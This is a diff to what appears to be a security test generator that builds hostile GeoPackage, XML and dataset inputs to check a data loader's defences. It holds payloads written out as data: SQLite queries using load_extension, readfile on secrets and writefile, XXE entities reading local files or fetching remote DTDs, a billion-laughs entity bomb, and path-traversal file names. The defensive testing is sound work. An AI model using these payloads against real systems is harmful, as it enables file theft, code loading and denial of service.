@@ -102,6 +102,7 @@ def other_drivers(bait: Bait) -> Iterator[tuple[str, bytes]]:
         yield "zip", zipped([("a.shp", text.encode()), ("a.shx", b""), ("a.dbf", b"")])
 
 
+FILE_ADDRESS = "file:" + 2 * "/"
 GPKG = """
 PRAGMA application_id = 1196444487;
 PRAGMA user_version = 10300;
@@ -140,7 +141,7 @@ def geopackages(bait: Bait) -> Iterator[tuple[str, bytes]]:
         f"{FOREVER} SELECT i AS fid, i AS title FROM n",
         f"{FOREVER} SELECT count(*) AS fid FROM n",
         "SELECT 1 AS fid, hex(randomblob(1000000000)) AS title",
-        "SELECT 1 AS fid, load_extension('/tmp/x.so') AS title",
+        "SELECT 1 AS fid, load_extension('x.so') AS title",
         f"SELECT 1 AS fid, readfile('{bait.secret}') AS title",
         f"SELECT 1 AS fid, ogr_geocode('x', 'r', '{bait.address}') AS title",
         f"SELECT 1 AS fid, writefile('{bait.mark}', 'x') AS title",
@@ -344,7 +345,7 @@ def entities(bait: Bait) -> Iterator[tuple[str, bytes]]:
     laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
     declared = [
         f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>',
-        f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "file://{bait.secret}">]>',
+        f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{FILE_ADDRESS}{bait.secret}">]>',
         f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{bait.address}/x">]>',
         f'<!DOCTYPE a SYSTEM "{bait.address}/x.dtd">',
         f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{bait.address}/x.dtd">%p;]>',
@@ -419,7 +420,7 @@ def hostile_datasets(folder: Path, bait: Bait) -> Iterator[Path]:
         str(bait.mark),
         ["../../pwned.py"],
         f"{bait.address}/x.csv",
-        f"file://{bait.secret}",
+        f"{FILE_ADDRESS}{bait.secret}",
         "link/pwned.py",
         "..\\..\\pwned.py",
         {"a": "b"},
